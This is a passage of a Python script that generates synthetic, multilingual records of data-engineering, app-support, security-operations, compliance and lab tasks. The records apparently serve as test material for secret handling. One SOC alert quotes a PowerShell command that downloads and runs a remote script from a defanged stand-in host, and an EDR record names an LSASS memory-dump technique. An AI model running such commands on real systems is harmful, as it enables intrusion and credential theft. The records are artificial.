      warehouse: TRANSFORM_WH
      database: ANALYTICS
      schema: marts
      threads: 8""")

I("de", rec([
    ("task", "Spark-Job auf Instance-Profile umstellen"),
    ("tool_output", 'spark.hadoop.fs.s3a.aws.credentials.provider=com.amazonaws.auth.InstanceProfileCredentialsProvider\nspark.hadoop.fs.s3a.endpoint=s3.eu-central-1.amazonaws.com\nspark.hadoop.fs.s3a.access.key=\nspark.hadoop.fs.s3a.secret.key='),
    ("thought", "Schlüsselfelder sind leer; die Credentials kommen vom EC2-Instance-Profile arn:aws:iam::" + dg(12) + ":instance-profile/emr-spark."),
    ("final", "Job läuft ohne statische Schlüssel."),
], DE))

I("en", """# client.properties (template in repo, rendered at deploy time)
bootstrap.servers=${KAFKA_BOOTSTRAP}
security.protocol=SASL_SSL
sasl.mechanism=PLAIN
config.providers=file
config.providers.file.class=org.apache.kafka.common.config.provider.FileConfigProvider
sasl.jaas.config=org.apache.kafka.common.security.plain.PlainLoginModule required username="${file:/opt/secrets/kafka.properties:api.key}" password="${file:/opt/secrets/kafka.properties:api.secret}";""")

I("fr", rec([
    ("task", "Analyser une requête lente dans Snowflake"),
    ("tool_output", f"query_id={guid()[:8]}-{dg(4)}-{hx(4)}-{dg(4)}-{dg(12)}\nwarehouse=REPORTING_WH (M) role=REPORTING_RO\nbytes_scanned=1.2 TB partitions_scanned=48211/48302\naccount locator=XY{dg(5)} region=eu-west-3"),
    ("final", "Pas d'élagage de partitions : ajouter un filtre sur la colonne de clustering event_date."),
], DE))

I("en", json.dumps({
    "type": "service_account", "project_id": "acme-dwh-prod", "private_key_id": sha1h(),
    "private_key": "<redacted - key lives in Secret Manager: projects/acme-dwh-prod/secrets/bq-loader-key>",
    "client_email": "bq-loader@acme-dwh-prod.iam.gserviceaccount.com", "client_id": dg(21),
    "auth_uri": "https://accounts.google.com/o/oauth2/auth", "token_uri": "https://oauth2.googleapis.com/token",
    "client_x509_cert_url": "https://www.googleapis.com/robot/v1/metadata/x509/bq-loader%40acme-dwh-prod.iam.gserviceaccount.com",
}, indent=2))

I("en", rec([
    ("task", "Confirm the Q3 export objects and their versions"),
    ("tool_call", call("aws.s3api.list_object_versions", {"bucket": "acme-finance-exports", "prefix": "q3/"})),
    ("tool_output", json.dumps({"Versions": [{"Key": "q3/ledger_2026Q3.parquet", "VersionId": rs(32, B64U), "ETag": f'"{hx(32)}"', "Size": 81230112, "IsLatest": True,
                                             "LastModified": ts()}], "Name": "acme-finance-exports"}, indent=1)),
    ("final", "Object ETag matches the checksum in the export manifest."),
], DE))

I("en", f"""$ cat ~/.aws/config
[profile dwh-admin]
sso_session = acme
sso_account_id = {dg(12)}
sso_role_name = DataPlatformAdmin
region = eu-central-1

[sso-session acme]
sso_start_url = https://acme.awsapps.com/start
sso_region = eu-west-1
sso_registration_scopes = sso:account:access
# data-eng-copilot: SSO only, no static keys in ~/.aws/credentials anymore""")

I("ja", rec([
    ("task", "要約パイプラインのノートブックを共有前に整理する"),
    ("tool_output", "セル [3]:\nimport os, openai\nclient = openai.OpenAI(api_key=os.environ[\"OPENAI_API_KEY\"])\n# キーは環境変数から取得（ノートブックには含めない）"),
    ("final", "ハードコードされたキーはありません。共有可能です。"),
], DE))

I("en", rec([
    ("task", "Identify the cluster used by the backfill job"),
    ("tool_output", f"cluster_id={dg(4)}-{dg(6)}-{rs(8, LO + DG)}\nspark_version=15.4.x-scala2.12\nworkspace=https://adb-{nz(16)}.{_r.randint(1, 19)}.azuredatabricks.net\nrun_id={nz(15)} job_id={nz(15)} state=TERMINATED result=SUCCESS"),
], DE))

I("es", rec([
    ("task", "Documentar la cadena de conexión a MongoDB Atlas para el equipo nuevo"),
    ("final", "Formato: mongodb+srv://<usuario>:<contraseña>@cluster-prod.xxxxx.mongodb.net/catalogo?retryWrites=true&w=majority . "
              "La contraseña real se obtiene de Vault (secret/catalogo/mongo); nunca la pegues en tickets."),
], DE))

I("en", f"""# redis-cli -h redis-queue.internal INFO server | head -12
redis_version:7.2.5
redis_git_sha1:00000000
redis_build_id:{hx(16)}
redis_mode:standalone
os:Linux 6.1.0-27-cloud-amd64 x86_64
process_id:1
run_id:{sha1h()}
tcp_port:6379
uptime_in_seconds:{nz(6)}
executable:/data/redis-server
config_file:/etc/redis/redis.conf""")

I("zh", rec([
    ("task", "整理报表服务数据源配置"),
    ("tool_output", f"spring.datasource.url=jdbc:mysql://{ip10()}:3306/report?useSSL=true&connectTimeout=5000\nspring.datasource.username=report_ro\nspring.datasource.password=${{REPORT_DB_PASSWORD}}"),
    ("final", "密码通过环境变量注入，配置文件中无明文。"),
], DE))

I("en", rec([
    ("task", "Document the ADLS Gen2 landing zone"),
    ("final", f"Resource ID: /subscriptions/{guid()}/resourceGroups/rg-data-lake/providers/Microsoft.Storage/storageAccounts/stacmelake01 ; "
              "container raw, endpoint https://stacmelake01.dfs.core.windows.net/raw ; access via managed identity (shared key access disabled)."),
], DE))

I("pt", rec([
    ("task", "Verificar integridade dos ficheiros copiados para o GCS"),
    ("tool_output", "\n".join(f"gs://lake-bronze-br/vendas/part-{i:05d}.parquet  generation={nz(16)}  md5Hash={b64(16)}  crc32c={b64(4)}" for i in range(3))),
    ("final", "Hashes coincidem com a origem."),
], DE))

I("en", f"""{{"time":"{ts('isoms')}","type":"response","auth":{{"client_token":"hmac-sha256:{hx(64)}","accessor":"hmac-sha256:{hx(64)}","display_name":"approle-airflow","policies":["default","data-eng-read"]}},"request":{{"id":"{guid()}","operation":"read","path":"secret/data/data-eng/snowflake/loader"}},"response":{{"data":{{"data":{{"password":"hmac-sha256:{hx(64)}"}}}}}}}}
# data-eng-copilot: Vault audit log - every sensitive field is HMAC'd, nothing usable""")

I("ko", rec([
    ("task", "Elasticsearch 운영 클러스터 상태 점검"),
    ("tool_output", f'{{"cluster_name":"es-prod","status":"green","number_of_nodes":9,"active_shards":1822,"cluster_uuid":"{b64u(_r.randbytes(16))}"}}'),
    ("final", "클러스터 정상. 인증은 서비스 계정 토큰(자격 증명 저장소)으로 수행."),
], DE))

I("en", f"""apiVersion: bitnami.com/v1alpha1
kind: SealedSecret
metadata:
  name: trino-catalog-pg
  namespace: analytics
spec:
  encryptedData:
    connection-password: AgB{rs(330, B64)}==
    connection-user: AgC{rs(170, B64)}==
  template:
    type: Opaque
# data-eng-copilot: ciphertext sealed with the cluster's controller key; safe to commit""")

I("ru", rec([
    ("task", "Проверить конфигурацию пользователя bi_reader в ClickHouse"),
    ("tool_output", f"<bi_reader><password_sha256_hex>{sha256h()}</password_sha256_hex><networks><ip>10.0.0.0/8</ip></networks><profile>readonly</profile></bi_reader>"),
    ("final", "В конфиге хранится только SHA-256 хеш пароля — соответствует политике."),
], DE))

I("en", rec([
    ("task", "Pin the NER model revision for reproducibility"),
    ("tool_output", f"acme-ml/ner-invoices-v3 revision={sha1h()}\nmodel.safetensors sha256={sha256h()} size=498MB\ntokenizer.json sha256={sha256h()}"),
], DE))

I("hi", rec([
    ("task", "रिपोर्टिंग डेटाबेस पर लंबी चल रही क्वेरी देखना"),
    ("tool_output", f" pid  | usename  | state  | query_start          | query\n {_r.randint(1000, 99999)} | etl_user | active | {ts('log')[:19]} | SELECT ... FROM sales_fact ..."),
    ("final", "क्वेरी 47 मिनट से चल रही है; इंडेक्स जोड़ने का सुझाव दिया।"),
], DE))

I("en", f"""$ gcloud auth list
                 Credentialed Accounts
ACTIVE  ACCOUNT
*       bq-exporter@acme-dwh-prod.iam.gserviceaccount.com
        etl@acme.example
$ gcloud config list --format='value(core.project)'
acme-dwh-prod
# data-eng-copilot: switched the nightly job to the service account ({dg(21)})""")

I("it", rec([
    ("task", "Rivedere la configurazione del connettore Debezium"),
    ("tool_output", json.dumps({"connector.class": "io.debezium.connector.postgresql.PostgresConnector", "database.hostname": "pg-ordini",
                                 "database.user": "debezium", "database.password": "${file:/opt/connect/secrets/ordini.properties:password}",
                                 "topic.prefix": "ordini"}, indent=1)),
    ("final", "Password referenziata tramite FileConfigProvider: nessun valore in chiaro nell'API REST."),
], DE))

I("id", rec([
    ("task", "Laporan pemakaian kredit warehouse Snowflake bulan ini"),
    ("tool_output", "TRANSFORM_WH  412.6 kredit\nREPORTING_WH  188.2 kredit\nADHOC_WH       97.4 kredit"),
    ("final", "Disarankan auto-suspend 60 detik untuk ADHOC_WH."),
], DE))

I("en", f"""$ curl -s https://psrc-{rs(5, LO + DG)}.europe-west3.gcp.confluent.cloud/subjects/orders-value/versions/latest -u "$SR_KEY:$SR_SECRET" | jq '{{id,version,subject}}'
{{
  "id": {nz(6)},
  "version": 14,
  "subject": "orders-value"
}}
# schema fingerprint (CRC-64-AVRO): {hx(16)}""")

I("th", rec([
    ("task", "สรุปแดชบอร์ด Looker ที่ไม่มีผู้ใช้"),
    ("tool_output", "\n".join(f"dashboard id={_r.randint(100, 9999)} title=\"Sales {i}\" views_180d=0 owner_id={_r.randint(1, 400)}" for i in range(3))),
    ("final", "ส่งรายการให้ทีม BI แล้ว"),
], DE))

I("en", f"""# secrets.enc.yaml (SOPS)
snowflake:
    loader_password: ENC[AES256_GCM,data:{b64(18)},iv:{b64(32)},tag:{b64(16)},type:str]
kafka:
    api_secret: ENC[AES256_GCM,data:{b64(48)},iv:{b64(32)},tag:{b64(16)},type:str]
sops:
    kms:
        - arn: arn:aws:kms:eu-central-1:{dg(12)}:key/{guid()}
          created_at: "{ts()}"
    mac: ENC[AES256_GCM,data:{b64(32)},iv:{b64(32)},tag:{b64(16)},type:str]
    version: 3.9.1""")

I("vi", rec([
    ("task", "Kiểm tra các lần chạy DAG orders_daily bị lỗi"),
    ("tool_output", "\n".join(f"run_id=scheduled__{ts()} task=load_to_warehouse try_number={_r.randint(1, 3)} state={_r.choice(['failed', 'success'])}" for _ in range(3))),
    ("final", "Lỗi do hết thời gian chờ kết nối; đã tăng timeout."),
], DE))

I("en", "$ cat group_vars/all/vault.yml\n$ANSIBLE_VAULT;1.1;AES256\n" + "\n".join(hx(80) for _ in range(6)) + "\n# data-eng-copilot: encrypted with ansible-vault; decryption key is in the CI secret store")

# ---- F. mobile & desktop app support --------------------------------------
_section("F")
I("en", """// android/app/build.gradle.kts (release signing reads from CI environment)
signingConfigs {
    create("release") {
        storeFile = file(System.getenv("RELEASE_STORE_FILE") ?: "../keystores/acme-release.jks")
        storePassword = System.getenv("RELEASE_STORE_PASSWORD")
        keyAlias = System.getenv("RELEASE_KEY_ALIAS")
        keyPassword = System.getenv("RELEASE_KEY_PASSWORD")
    }
}
// app-support-bot: no credentials in the repo; CI injects them from GitHub Actions secrets""")

I("en", rec([
    ("task", "Collect signing identifiers for the iOS release checklist"),
    ("tool_output", f"Bundle ID: com.acme.fieldservice\nTeam ID: {rs(10, UP + DG)}\nProvisioning profile UUID: {guid().upper()}\nSigning certificate SHA-1: {HX(40)}\nApp Store Connect app ID: {nz(10)}"),
    ("final", "All identifiers recorded; none of them are secrets."),
], APP))

I("de", rec([
    ("task", "Absturzbericht der Desktop-App 5.3.1 auswerten"),
    ("tool_output", f"Exception: System.NullReferenceException\n   at AcmeDesk.Sync.Queue.Flush() in C:\\build\\src\\Sync\\Queue.cs:line 212\nBuild: 5.3.1+{sha1h()[:12]}  Machine-ID: {guid()}  Session: {hx(32)}"),
    ("thought", "Die Session-ID ist eine Telemetrie-Korrelations-ID, kein Login-Cookie."),
    ("final", "Bug AD-" + dg(4) + " angelegt."),
], APP))

I("en", rec([
    ("task", "Rotate the App Store Connect API key used by fastlane"),
    ("final", f"New key created: Key ID {rs(10, UP + DG)}, Issuer ID {guid()}. The .p8 file was uploaded directly to the CI secret ASC_KEY_P8 and deleted locally; only IDs are recorded here."),
], APP))

I("es", rec([
    ("user", "¿Cómo cambio el PIN de la app si no lo recuerdo?"),
    ("reply", "Abra la app, pulse 'Olvidé mi PIN', confirme con su DNI y el código que recibirá por SMS, y elija un PIN nuevo de 6 dígitos. "
              "Nunca le pediremos el PIN por teléfono, correo o chat."),
], APP))

I("en", f"""sentry event {hx(32)}
  release: ios-app@7.12.0+{nz(4)} ({sha1h()[:12]})
  environment: production
  device: iPhone15,3 / iOS 18.1
  trace: {hx(32)}  span: {hx(16)}
  exception: NSInvalidArgumentException: -[__NSCFString objectForKey:]: unrecognized selector
# app-support-bot: grouped into issue ACME-IOS-{rs(3, UP + DG)}""")

I("fr", rec([
    ("task", "Vérifier l'état de la licence CAD-Pro sur le poste WS-LYO-0311"),
    ("tool_output", f"Licence ID : LIC-2026-{dg(5)}\nStatut : activée (1/2 postes)\nEmpreinte machine : {sha256h()[:32]}\nExpiration : {ts('date')}"),
    ("final", "Licence valide ; l'identifiant de licence n'est pas la clé produit."),
], APP))

I("en", rec([
    ("task", "Check latest EAS build for the field-service app"),
    ("tool_output", f"ID: {guid()}\nPlatform: iOS\nStatus: finished\nChannel: production\nRuntime version: 1.8.0\nGit commit: {sha1h()}\nArtifact: https://expo.dev/artifacts/eas/{rs(22, B64U)}.ipa"),
], APP))

I("pt", rec([
    ("user", "Como crio uma senha específica de app para o meu cliente de e-mail?"),
    ("reply", "Entre em appleid.apple.com > Iniciar sessão e segurança > Palavras-passe específicas de apps, e gere uma nova. "
              "O formato é xxxx-xxxx-xxxx-xxxx. Não a partilhe connosco nem com ninguém."),
], APP))

I("en", f"""{ts('log')} [main] info  auth: access token refreshed (token_type=Bearer, expires_in=3600, scope="openid profile offline_access")
{ts('log')} [main] info  auth: refresh_token rotated (stored in OS keychain, service="AcmeDesk", account="{guid()}")
{ts('log')} [main] warn  clock skew detected: local={ts()} server={ts()}""")

I("ar", rec([
    ("task", "تسجيل جهاز جديد في نظام إدارة الأجهزة"),
    ("tool_output", f"IMEI: {imei()}\nالرقم التسلسلي: {rs(12, UP + DG)}\nمعرّف الجهاز: {guid()}"),
    ("final", "تم تسجيل الجهاز. رقم IMEI معرّف للجهاز وليس رمز دخول."),
], APP))

I("en", f"""HAR summary (sanitised by app-support-bot before attaching to {tk('BUG-', 5)})
  POST https://shop.acme.example/api/cart/checkout -> 500 ({_r.randint(200, 900)} ms)
    request headers: Cookie: [removed by HAR sanitizer]; X-Request-Id: {guid()}
    response headers: ETag: W/"{hx(20)}"; X-Trace-Id: {hx(32)}
    response body: {{"error":"inventory_lock_timeout","lock_id":"{hx(24)}"}}""")

I("tr", rec([
    ("task", "Mobil uygulama çökme bildirimi"),
    ("tool_output", f"Uygulama sürümü 7.12.0 (build {nz(5)}), cihaz Samsung SM-S918B, Android 15, kurulum kimliği {guid()}"),
    ("final", "Hata 7.12.1 sürümünde düzeltildi."),
], APP))

I("en", f"""PS C:\\build> signtool sign /sha1 {HX(40)} /fd SHA256 /tr http://timestamp.digicert.com /td SHA256 .\\out\\AcmeDesk-Setup-5.3.2.exe
Done Adding Additional Store
Successfully signed: .\\out\\AcmeDesk-Setup-5.3.2.exe
# app-support-bot: certificate selected from the HSM-backed store by thumbprint; no PFX password involved""")

I("uk", rec([
    ("task", "Перевірити службовий iPhone у MDM"),
    ("tool_output", f"UDID {hx(8)}-{hx(16)}\nсерійний номер {rs(12, UP + DG)}\nкод-пароль: встановлено (відповідає політиці)\nостанній check-in {ts()}"),
    ("final", "Пристрій відповідає політиці; сам код-пароль MDM не бачить."),
], APP))

I("en", rec([
    ("task", "Document how the field app authenticates to the jobs API"),
    ("final", "The app sends 'Authorization: Bearer <access_token>' obtained via OAuth PKCE; the token is never logged (interceptor level HEADERS with redactHeader(\"Authorization\"))."),
], APP))

# ---- G. security operations -----------------------------------------------
_section("G")
I("en", rec([
    ("task", f"Close GitHub secret-scanning alert #{_r.randint(100, 999)} after rotation"),
    ("tool_output", f"secret_type=slack_incoming_webhook_url state=resolved resolution=revoked\ncommit={sha1h()} path=scripts/notify.sh line=7\npush_protection_bypassed=false"),
    ("final", "Webhook revoked in Slack; alert resolved. Secret value not included in the alert export."),
], SOC))

I("en", f"""ALERT id={guid()} rule="Suspicious PowerShell download cradle" severity=medium host=WS-MKT-{dg(4)}
  time={ts('isoms')}  user=CORP\\l.fontaine
  process=powershell.exe  process_guid={{{guid()}}}
  command_line="powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('hxxp://update-check[.]example-bad[.]top/a.ps1')"
  md5={hx(32)} sha1={sha1h()} sha256={sha256h()}
  parent=winword.exe (pid {_r.randint(1000, 9999)})""")

I("de", rec([
    ("task", f"Phishing-Analyse Meldung {tk('PH-', 5)}: Header prüfen"),
    ("tool_output", f"""Return-Path: <bounce-{hx(10)}@mailer.example-bad.top>
Message-ID: <{hx(24)}@mailer.example-bad.top>
Authentication-Results: mx.firma.de; spf=fail smtp.mailfrom=example-bad.top; dkim=pass header.d=example-bad.top; dmarc=fail
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=example-bad.top; s=s1; bh={b64(32)}; b={b64(192)}"""),
    ("final", "SPF/DMARC fail; DKIM-Signatur ist gültig, aber für die Angreifer-Domain. Keine Zugangsdaten eingegeben."),
], SOC))

I("en", f"""IOC bundle {tk('CTI-', 5)} (TLP:AMBER)
domains: login-micros0ft[.]example-bad[.]top, cdn-upd[.]example-bad[.]xyz
ipv4: {ipdoc()}, {ipdoc()}
sha256: {sha256h()}
sha256: {sha256h()}
ja3: {hx(32)}
ja4: t13d1516h2_{hx(12)}_{hx(12)}
mutex: Global\\{hx(8)}-{hx(4)}""")

I("fr", rec([
    ("task", "Chronologie de l'incident IR-2026-0" + dg(2) + " (jeton GitLab exposé)"),
    ("final", f"{ts()} détection ; {ts()} révocation du jeton (ID de jeton {nz(7)}, nom 'ci-terraform') ; {ts()} rotation des clés de déploiement ; "
              "aucune valeur de jeton n'est reproduite dans ce rapport."),
], SOC))

I("en", f"""EDR detection {guid()} on host WS-FIN-{dg(4)}: Suspicious access to LSASS memory
  actor: rundll32.exe comsvcs.dll, MiniDump (pid {_r.randint(1000, 9999)})
  target: lsass.exe (pid {_r.randint(500, 900)})
  access_mask: 0x1010
  blocked: true (ASR rule 9e6c4e1f-7d60-472f-ba1a-a39ef669e4b2)
  file sha256: {sha256h()}
soc-analyst: blocked before dump was written; no credential material captured""")

I("ru", rec([
    ("task", "Подготовить YARA-правило для стилера из инцидента"),
    ("tool_output", "rule Stealer_Config_2026 {\n  strings:\n    $s1 = \"exfil_url=\" ascii\n    $h1 = { 6A 40 68 00 30 00 00 " + " ".join(HX(2) for _ in range(6)) + " }\n  condition:\n    uint16(0) == 0x5A4D and all of them\n}"),
    ("final", "Правило протестировано на 3 образцах."),
], SOC))

_h = sha1h().upper()
I("en", rec([
    ("task", "Check whether a user's proposed password appears in known breaches (k-anonymity)"),
    ("tool_call", call("http.get", {"url": f"https://api.pwnedpasswords.com/range/{_h[:5]}"})),
    ("tool_output", f"{_h[5:]}:{_r.randint(3, 9000)}\n{HX(35)}:2\n{HX(35)}:14"),
    ("final", f"SHA-1 of the candidate ({_h[:5]}...) found in breach corpus; user asked to choose another. Only the hash prefix left our network."),
], SOC))

I("ja", rec([
    ("task", "漏えいした Slack ボットトークンの失効確認"),
    ("tool_output", f"token_id=T{rs(10, UP + DG)}/B{rs(10, UP + DG)}  末尾4文字=…{rs(4)}  状態=revoked  失効日時={ts()}"),
    ("final", "失効済み。トークン本体は記録していない。"),
], SOC))

I("en", f"""# $SPLUNK_HOME/etc/system/local/server.conf
[general]
serverName = hf-01
guid = {guid().upper()}
pass4SymmKey = $7${b64(60)}

# $SPLUNK_HOME/etc/apps/acme_outputs/local/outputs.conf
[httpout]
httpEventCollectorToken = $HEC_TOKEN$
# soc-analyst: guid is the instance id; pass4SymmKey is stored Splunk-encrypted ($7$); HEC token injected at deploy""")

I("es", rec([
    ("task", "Resumen del ataque de credential stuffing (últimas 24 h)"),
    ("final", "Intentos: 1.284.112; IPs únicas: 38.201; éxitos: 3 (cuentas bloqueadas y contraseñas restablecidas). "
              "No se registran contraseñas en este informe; el campo se ha eliminado del log del WAF."),
], SOC))

I("zh", rec([
    ("task", "钓鱼网站分析报告"),
    ("tool_output", f"URL：hxxps://jifen-duihuan[.]example-bad[.]cn/index.html\nIP：{ipdoc()}\n页面 SHA-256：{sha256h()}\n证书序列号：{HX(32)}\n注册时间：{ts('date')}"),
    ("final", "已提交下架申请。"),
], SOC))

I("pl", rec([
    ("task", "Procedura rotacji haseł do baz danych po incydencie"),
    ("final", "1) Wygeneruj nowe hasło w Vault (vault write -f database/rotate-role/app). 2) Zrestartuj pody aplikacji. "
              "3) Zweryfikuj połączenia. Nigdy nie wklejaj hasła do zgłoszenia ani na czat – wystarczy numer wersji sekretu."),
], SOC))

_n = b64u(_r.randbytes(256))
I("en", rec([
    ("task", "Verify the signing key of the suspicious JWT from the proxy log"),
    ("tool_output", f'decoded header: {{"alg":"RS256","typ":"JWT","kid":"{hx(16)}"}}\nJWKS (https://login.acme.example/.well-known/jwks.json):\n{{"keys":[{{"kty":"RSA","use":"sig","kid":"{hx(16)}","alg":"RS256","e":"AQAB","n":"{_n}"}}]}}'),
    ("thought", "Only the header was decoded and the public JWKS fetched; no token value kept in memory."),
    ("final", "kid matches an active public key; token was legitimately issued."),
], SOC))

I("he", rec([
    ("task", "סיכום אירוע דליפת סיסמה"),
    ("final", "המשתמש קיבל הודעה, הסיסמה הוחלפה, כל ההתחברויות בוטלו ונבדקו יומני הכניסה ב-30 הימים האחרונים. אין בסיכום זה את הסיסמה עצמה."),
], SOC))

I("th", rec([
    ("task", "สรุปช่องโหว่ที่ต้องแพตช์เดือนนี้"),
    ("final", f"CVE-2026-{dg(5)} (CVSS 9.8) บน FortiOS, CVE-2026-{dg(5)} (CVSS 8.1) บน Confluence, CVE-2026-{dg(4)} บน Exchange ต้องแพตช์ภายใน 7 วัน"),
], SOC))

I("en", f"""crt.sh entry for login.acme.example
  Serial: {':'.join(HX(2) for _ in range(16))}
  SHA-256 fingerprint: {':'.join(HX(2) for _ in range(32))}
  Issuer: C=US, O=Let's Encrypt, CN=R11
  Not before: {ts()}  Not after: {ts()}
  SCT log id: {b64(32)}""")

I("nl", rec([
    ("task", "Afronding melding infostealer-sample"),
    ("final", f"Discord heeft de exfiltratie-webhook (webhook-ID {nz(19)}) verwijderd op {ts()}. Geen tokenwaarde opgeslagen in dit dossier."),
], SOC))

I("ko", rec([
    ("task", "API 키 사용량 점검 (재발급 후)"),
    ("tool_output", f"key_id=projects/{nz(12)}/keys/{guid()}  display_name=maps-server-2026  restrictions=IP({ipdoc()})  요청수(24h)=18,220"),
    ("final", "새 키는 IP 제한이 적용됨. 키 ID 는 식별자이며 키 값이 아님."),
], SOC))

I("en", f"""# /home/deploy/.ssh/authorized_keys on ba-linux-14 (forensic copy)
{ssh_pub_ed25519()} deploy@ci
{ssh_pub_ed25519()} unknown@kali
# soc-analyst: second key was added by the attacker at {ts()}; these are PUBLIC keys (removed), fingerprint SHA256:{b64u(_r.randbytes(32))}""")

# ---- H. legal / compliance / audit ----------------------------------------
_section("H")
I("en", f"""DSAR register export ({ts('date')})
request_id,received,subject_ref,status,due,handler
DSAR-2026-{dg(4)},{ts('date')},CUST-{dg(8)},fulfilled,{ts('date')},compliance-auditor
DSAR-2026-{dg(4)},{ts('date')},CUST-{dg(8)},in_progress,{ts('date')},legal-ops
DSAR-2026-{dg(4)},{ts('date')},EMP-{dg(6)},identity_check_pending,{ts('date')},hr-privacy
# subject_ref values are internal pseudonymous keys, not national identifiers""")

I("es", rec([
    ("task", "Redactar la guía de validación del DNI para el formulario de alta"),
    ("final", "El DNI tiene 8 dígitos y una letra de control (resto de dividir entre 23 en la tabla TRWAGMYFPDXBNJZSQVHLCKE). "
              "Ejemplo ficticio de la documentación oficial: 12345678Z. Nunca uses DNI reales en los casos de prueba."),
], LEG))

I("nl", rec([
    ("task", "Testdata voor de BSN-validatie in de klantportal"),
    ("final", "Gebruik uitsluitend het fictieve test-BSN 111222333 uit de ontwikkelaarsdocumentatie (voldoet aan de elfproef, is nooit uitgegeven). Echte BSN's horen niet in testsets."),
], LEG))

I("sv", rec([
    ("task", "Registrera begäran om registerutdrag enligt GDPR"),
    ("final", f"Diarienummer DS-2026-{dg(4)}, inkom {ts('date')}, identitet styrkt via BankID (transaktions-ID {guid()}). Inga personnummer sparade i ärendet."),
], LEG))

I("pl", rec([
    ("task", "Zabezpieczenie dokumentów do sprawy sądowej"),
    ("final", f"Sygnatura akt: IX GC {_r.randint(100, 999)}/26, pismo z dnia {ts('date')}, zabezpieczono {_r.randint(100, 900)} e-maili (SHA-256 manifestu: {sha256h()})."),
], LEG))

I("en", rec([
    ("task", "Collect SOX ITGC evidence for change management, sample of 25 changes"),
    ("tool_output", "\n".join(f"{tk('CHG', 7)}  approved_by=cab-{_r.choice(['fin', 'it', 'sec'])}  deployed={ts()}  commit={sha1h()[:12]}  pipeline_run={nz(9)}" for _ in range(4))),
    ("final", "All 25 sampled changes have approval before deployment. No exceptions."),
], LEG))

I("pt", rec([
    ("task", "Registo de pedido LGPD de eliminação de dados"),
    ("final", f"Protocolo {dg(4)}.{dg(6)}/2026-{dg(2)}, titular identificado por ID interno CLI-{dg(7)}; dados eliminados em {ts('date')}. Nenhum CPF registado neste processo."),
], LEG))

I("it", rec([
    ("task", "Archiviare le ricevute PEC della comunicazione al Garante"),
    ("tool_output", f"Message-ID: <opec{dg(6)}.{ts('date').replace('-', '')}{dg(6)}.{dg(5)}.{dg(3)}.1.{_r.randint(50, 99)}@pec.aruba.it>\nricevuta di consegna: {ts()}\nprotocollo interno {dg(5)}/2026"),
    ("final", "Ricevute archiviate nel fascicolo DPO-2026-" + dg(3) + "."),
], LEG))

I("en", f"""Legal hold {tk('LH-', 5)} - production volume ACME-PROD-007
Bates range: ACME{dg(7)} - ACME{dg(7)}
Custodians: 14 (ids CUST-{dg(3)} .. CUST-{dg(3)})
Load file: ACME-PROD-007.dat  MD5 {hx(32)}
Native count 4,112  Image count 18,905  Hash method SHA-1 (dedupe) e.g. {sha1h()}""")

I("cs", rec([
    ("task", "Ověření dodavatele v obchodním rejstříku"),
    ("final", f"IČO dodavatele {dg(8)} (právnická osoba, veřejný údaj z ARES), DIČ CZ{dg(8)}, sídlo Brno. Žádné osobní údaje fyzických osob."),
], LEG))

I("no", rec([
    ("task", "Kontroll av leverandør før kontraktsinngåelse"),
    ("final", f"Organisasjonsnummer {_r.choice('89')}{dg(8)} (offentlig i Enhetsregisteret), MVA-registrert, ingen anmerkninger. Kontrakt K-2026-{dg(3)}."),
], LEG))

I("fi", rec([
    ("task", "Toimittajan taustatarkistus"),
    ("final", f"Y-tunnus {dg(7)}-{dg(1)} (julkinen yritystunnus), ennakkoperintärekisterissä, ei maksuhäiriöitä. Sopimus {tk('SOP-', 4)}."),
], LEG))

I("ar", rec([
    ("task", "صياغة سياسة التعامل مع البيانات الحساسة"),
    ("final", "يُمنع تسجيل أرقام الهوية الوطنية أو أرقام البطاقات أو كلمات المرور في التذاكر أو السجلات. يُكتفى بآخر أربعة أرقام عند الحاجة للتحقق."),
], LEG))

I("tr", rec([
    ("task", "KVKK aydınlatma metni revizyonu"),
    ("final", "Çağrı merkezi kayıtlarında T.C. kimlik numarası yalnızca maskeli (ilk 3 ve son 2 hane) tutulacaktır. Revizyon no: AYD-2026-" + dg(2) + "."),
], LEG))

I("he", rec([
    ("task", "נוהל טיפול בבקשות עיון במידע"),
    ("final", f"כל בקשה מקבלת מספר פנייה (למשל PRV-{dg(6)}). אין לרשום מספר תעודת זהות בשדה ההערות; האימות מתבצע מול מערכת הזהויות בלבד."),
], LEG))

I("hi", rec([
    ("task", "ग्राहक KYC प्रक्रिया दस्तावेज़"),
    ("final", "आधार संख्या केवल मास्क्ड रूप (XXXX XXXX 1234) में दिखाई जाए। संदर्भ के लिए आंतरिक KYC आईडी KYC-" + dg(8) + " उपयोग करें।"),
], LEG))

# ---- I. research labs & universities --------------------------------------
_section("I")
I("en", f"""#!/bin/bash
#SBATCH --job-name=sync-cryoem
#SBATCH --partition=transfer
#SBATCH --time=04:00:00
#SBATCH --account=struct-bio
# key-based transfer (key in ~/.ssh/krios_transfer_ed25519, passphrase-less, restricted by from= and command= on the source)
rsync -av --partial -e "ssh -i ~/.ssh/krios_transfer_ed25519" krios-operator@{ip10()}:/data/Krios2/2026-*/ /scratch/struct-bio/krios/
# last run: job {nz(8)} exit 0, {_r.randint(100, 900)} GB""")

I("no", rec([
    ("task", "Opprette HPC-bruker for ny postdoktor"),
    ("tool_call", call("ipa.user_add", {"uid": "postdok12", "first": "Lars", "last": "Haugen", "random": True})),
    ("tool_output", "Added user \"postdok12\"; one-time password delivered via university SMS gateway (not returned to caller)"),
    ("final", f"Bruker opprettet, prosjekt nn{dg(4)}k, kvote 10 TB."),
], LAB))

I("en", rec([
    ("task", "Reconcile LIMS samples with freezer inventory"),
    ("tool_output", "\n".join(f"sample S-2026-{dg(6)}  barcode {dg(12)}  box FRZ-07/B{_r.randint(1, 20)}  instrument QE-HFX SN {rs(8, UP + DG)}  status=received" for _ in range(3))),
    ("final", "3 samples reconciled."),
], LAB))

I("fr", rec([
    ("task", "Transfert Globus des données de séquençage vers le cluster"),
    ("tool_output", f"source endpoint {guid()} (Plateforme-Seq)\ndestination endpoint {guid()} (Cluster-Scratch)\ntask id {guid()}  status SUCCEEDED  files 1 204  bytes 2.3 TB"),
], LAB))

I("cs", rec([
    ("task", "Kontrola registru PC u hmotnostního spektrometru"),
    ("tool_output", "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\n  AutoAdminLogon    REG_SZ    0\n  DefaultUserName   REG_SZ    msoperator\n  DefaultDomainName REG_SZ    LAB"),
    ("final", "Automatické přihlášení vypnuto, heslo v registru není."),
], LAB))

I("fi", rec([
    ("task", "Jupyter-palvelimen käynnistysloki opiskelijan tukipyyntöön"),
